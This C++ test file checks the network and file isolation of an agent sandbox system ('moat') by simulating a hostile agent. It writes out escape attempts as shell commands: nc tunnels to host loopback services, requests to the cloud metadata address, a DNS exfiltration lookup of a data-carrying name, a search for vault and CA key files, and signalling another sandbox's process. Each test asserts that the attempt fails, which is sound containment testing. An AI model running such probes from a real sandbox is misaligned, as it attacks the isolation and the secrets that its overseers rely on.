// The hostile agent tries to reach what is not its own: the host's network and loopback services, the
// cloud metadata address, DNS as a way out, another sandbox's files and gateway, moatd's state
// directory and vault key. Every attempt must fail, on every runtime tier, and the host side checks
// that nothing arrived.
#include <ifaddrs.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <ranges>
#include <thread>

#include "base/json.h"
#include "support/hostile_sandbox.h"
#include "support/upstream_server.h"

using namespace moat;
using namespace moat::testing;
using namespace std::chrono_literals;

namespace {

class HostileReach : public HostileSandbox {
 protected:
  // The agent asks its proxy for a CONNECT tunnel to `authority`; returns the proxy's status line.
  std::string connect_through_proxy(const std::string& authority) {
    auto r = sh("box", fmt::format("printf 'CONNECT {0} HTTP/1.1\\r\\nHost: {0}\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128 | head -1",
                                   authority));
    return first_line(r.out);
  }
  // The agent asks its proxy for a plain HTTP GET of http://`authority`/; returns the status line.
  // (Raw, with nc: Debian 12's busybox wget segfaults on these requests.)
  std::string get_through_proxy(const std::string& authority) {
    auto r = sh("box", fmt::format("printf 'GET http://{0}/ HTTP/1.1\r\nHost: {0}\r\n\r\n' | nc -w 5 127.0.0.1 3128 | head -1",
                                   authority));
    return first_line(r.out);
  }
  // The agent connects directly, bypassing the proxy: nc's complaint and exit status.
  std::string connect_directly(const std::string& host, uint16_t port) {
    auto r = sh("box", fmt::format("echo hi | nc -w 3 {} {} 2>&1; echo \"exit $?\"", host, port));
    return r.out.find('\n') + 1 < r.out.size() ? first_line(r.out) + " / " + last_line(r.out) : last_line(r.out);
  }
  static std::string first_line(const std::string& s) {
    auto line = s.substr(0, s.find('\n'));
    if (!line.empty() && line.back() == '\r') line.pop_back();
    return line;
  }
  static std::string last_line(std::string s) {
    while (!s.empty() && s.back() == '\n') s.pop_back();
    auto nl = s.rfind('\n');
    return nl == std::string::npos ? s : s.substr(nl + 1);
  }
  static bool refused_by_gateway(const std::string& status) { return status.find(" 403 ") != std::string::npos; }
  static bool failed(const std::string& outcome) { return !outcome.ends_with("exit 0"); }
};

// The host's first non-loopback IPv4 address (how a container on a bridge would reach host services).
std::string host_address() {
  ifaddrs* all = nullptr;
  if (getifaddrs(&all) != 0) return {};
  std::string out;
  for (auto* a = all; a && out.empty(); a = a->ifa_next) {
    if (!a->ifa_addr || a->ifa_addr->sa_family != AF_INET) continue;
    char text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(a->ifa_addr)->sin_addr, text, sizeof text);
    if (std::string(text).rfind("127.", 0) != 0) out = text;
  }
  freeifaddrs(all);
  return out;
}

TEST_P(HostileReach, OnlyLoopbackAndNothingDirect) {
  auto dev = env_->ok({"exec", "box", "--", "cat", "/proc/net/dev"});
  int interfaces = 0;
  for (size_t pos = 0; (pos = dev.find(':', pos)) != std::string::npos; ++pos) ++interfaces;
  report_.add("reach", "list network interfaces", fmt::format("{} interface(s): {}", interfaces, interfaces == 1 ? "lo" : dev),
              interfaces == 1 && dev.find("lo:") != std::string::npos);
  auto t0 = std::chrono::steady_clock::now();
  auto tcp = sh("box", "echo hi | nc -w 3 192.0.2.1 80 2>&1; echo \"exit $?\"", "10s");
  auto took = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0);
  report_.add("reach", "direct TCP to an outside address (192.0.2.1:80, reserved for documentation)",
              fmt::format("failed in {} ms: {}", took.count(), first_line(tcp.out)),
              failed(last_line(tcp.out)) && tcp.code != 124);
  auto udp = sh("box", "timeout 10 nslookup example.com 198.51.100.53 2>&1; echo \"exit $?\"");
  report_.add("reach", "direct UDP: a DNS query to an outside server (198.51.100.53:53, reserved for documentation)",
              first_line(udp.out) + " / " + last_line(udp.out), failed(last_line(udp.out)));
}

TEST_P(HostileReach, HostServicesStayOutOfReach) {
  // A service on every host address: the sandbox must reach it by no route at all.
  UpstreamServer service({.bind_address = "0.0.0.0"});
  auto port = service.port();
  auto direct = connect_directly("127.0.0.1", port);
  report_.add("reach", fmt::format("host loopback service, direct (127.0.0.1:{})", port), direct, failed(direct));
  auto via_get = get_through_proxy(fmt::format("127.0.0.1:{}", port));
  report_.add("reach", "host loopback service, plain HTTP through the proxy", via_get, refused_by_gateway(via_get));
  auto via_connect = connect_through_proxy(fmt::format("127.0.0.1:{}", port));
  report_.add("reach", "host loopback service, CONNECT through the proxy", via_connect, refused_by_gateway(via_connect));
  // Even where policy allows the name, the address it leads to is refused.
  env_->ok({"policy", "allow", "box", fmt::format("localhost:{}", port)});
  auto via_name = connect_through_proxy(fmt::format("localhost:{}", port));
  report_.add("reach", "host loopback service by a name policy allows (localhost), CONNECT", via_name,
              refused_by_gateway(via_name));
  if (auto addr = host_address(); !addr.empty()) {
    auto direct = connect_directly(addr, port);
    report_.add("reach", fmt::format("host's own address, direct ({}:{})", addr, port), direct, failed(direct));
    auto proxied = connect_through_proxy(fmt::format("{}:{}", addr, port));
    report_.add("reach", "host's own address, CONNECT through the proxy", proxied, refused_by_gateway(proxied));
  }
  std::this_thread::sleep_for(200ms);
  report_.add("reach", "host service's view", fmt::format("{} request(s) arrived", service.requests().size()),
              service.requests().empty());
}

TEST_P(HostileReach, MetadataAddressIsRefused) {
  auto via_get = get_through_proxy("169.254.169.254");
  report_.add("reach", "cloud metadata (169.254.169.254), plain HTTP through the proxy", via_get, refused_by_gateway(via_get));
  auto via_connect = connect_through_proxy("169.254.169.254:80");
  report_.add("reach", "cloud metadata, CONNECT through the proxy", via_connect, refused_by_gateway(via_connect));
  auto direct = connect_directly("169.254.169.254", 80);
  report_.add("reach", "cloud metadata, direct", direct, failed(direct));
}

TEST_P(HostileReach, DnsCarriesNothingOut) {
  // A name that carries data: with no resolver inside, the agent's only resolver is the gateway, which
  // decides by policy before it resolves anything.
  auto lookup = sh("box", "nslookup exfil-c0ffee.example.com 2>&1; echo \"exit $?\"");
  report_.add("reach", "DNS lookup of a data-carrying name inside", first_line(lookup.out) + " / " + last_line(lookup.out),
              failed(last_line(lookup.out)));
  auto resolv = sh("box", "cat /etc/resolv.conf 2>/dev/null | grep -c nameserver");
  report_.add("reach", "find a resolver in /etc/resolv.conf", fmt::format("{} nameserver line(s)", first_line(resolv.out)),
              first_line(resolv.out) == "0" || first_line(resolv.out).empty());
  const std::string host = "exfil-c0ffee-4242.example.com";
  auto status = connect_through_proxy(host + ":443");
  Json record;
  for (int i = 0; i < 50 && record.is_null(); ++i) {
    for (auto line : std::views::split(env_->ok({"audit", "export"}), '\n')) {
      auto j = Json::parse(std::string_view(line.begin(), line.end()), nullptr, false);
      if (!j.is_discarded() && j.value("kind", "") == "egress" && j["data"].value("host", "") == host) record = j;
    }
    if (record.is_null()) std::this_thread::sleep_for(100ms);
  }
  bool unresolved = !record.is_null() && record["data"].value("address", "").empty();
  report_.add("reach", "DNS exfiltration through the gateway (CONNECT to a data-carrying name)",
              fmt::format("{}; audit: decision {}, resolved address '{}'", status,
                          record.is_null() ? "?" : record["data"].value("decision", ""),
                          record.is_null() ? "?" : record["data"].value("address", "")),
              refused_by_gateway(status) && unresolved);
}

TEST_P(HostileReach, AnotherSandboxAndMoatdStayOutOfReach) {
  env_->ok({"sandbox", "create", "other", "--start"});
  env_->ok({"exec", "other", "--", "sh", "-c", "echo other-secret > /workspace/other-marker"});
  // A destination the other sandbox may reach and box may not: box cannot borrow other's policy.
  UpstreamServer allowed_for_other;
  env_->ok({"policy", "allow", "other", fmt::format("127.0.0.1:{}", allowed_for_other.port())});

  auto find = sh("box", "find / -xdev \\( -name other-marker -o -name vault.key -o -name moat.db -o -name moatd.sock "
                        "-o -name ca.key -o -name webhook.key \\) 2>/dev/null; echo done");
  report_.add("reach", "search the file system for another sandbox's files and moatd's state (vault.key, moat.db, moatd.sock, ca.key)",
              find.out == "done\n" ? "nothing found" : find.out, find.out == "done\n");
  auto state = sh("box", fmt::format("ls {} 2>&1; echo \"exit $?\"", env_->state_dir().string()));
  report_.add("reach", "open moatd's state directory by its host path", first_line(state.out), failed(last_line(state.out)));
  auto gw = sh("box", "ls /run/moat-gateway/ | tr '\\n' ' '");
  bool own_only = gw.out.find("gw.sock") != std::string::npos && gw.out.find("other") == std::string::npos;
  report_.add("reach", "list gateway sockets", "sees its own directory only: " + gw.out, own_only);
  auto borrow = connect_through_proxy(fmt::format("127.0.0.1:{}", allowed_for_other.port()));
  report_.add("reach", "use another sandbox's egress allowance", borrow, refused_by_gateway(borrow));

  auto other = Json::parse(env_->ok({"--json", "sandbox", "inspect", "other"}));
  if (other["container"].contains("pid")) {
    int pid = other["container"]["pid"];
    auto kill = sh("box", fmt::format("kill -0 {} 2>&1; echo \"exit $?\"", pid));
    report_.add("reach", "signal another sandbox's init by its host pid", first_line(kill.out), failed(last_line(kill.out)));
  }
  // moat-init serves the host only. Under gVisor the host's connection carries no peer pid, so the
  // check is off there (docs/security.md): what an agent asks its own moat-init stays in its sandbox.
  copy_probe();
  auto init = env_->moat({"exec", "box", "--", "/usr/local/bin/moat-probe", "initsock", "/run/moat/init.sock"});
  bool gvisor = std::string(GetParam()) == "runsc";
  report_.add("reach", "talk to moat-init's socket from inside",
              first_line(init.out) + (gvisor ? " (gVisor: documented, stays inside the sandbox)" : ""),
              gvisor ? init.out.find("initsock: ") != std::string::npos
                     : init.out.find("initsock: refused") != std::string::npos);
  // The other sandbox is untouched.
  EXPECT_EQ(env_->ok({"exec", "other", "--", "cat", "/workspace/other-marker"}), "other-secret\n");
}

MOAT_HOSTILE_ON_EVERY_RUNTIME(HostileReach);

}  // namespace
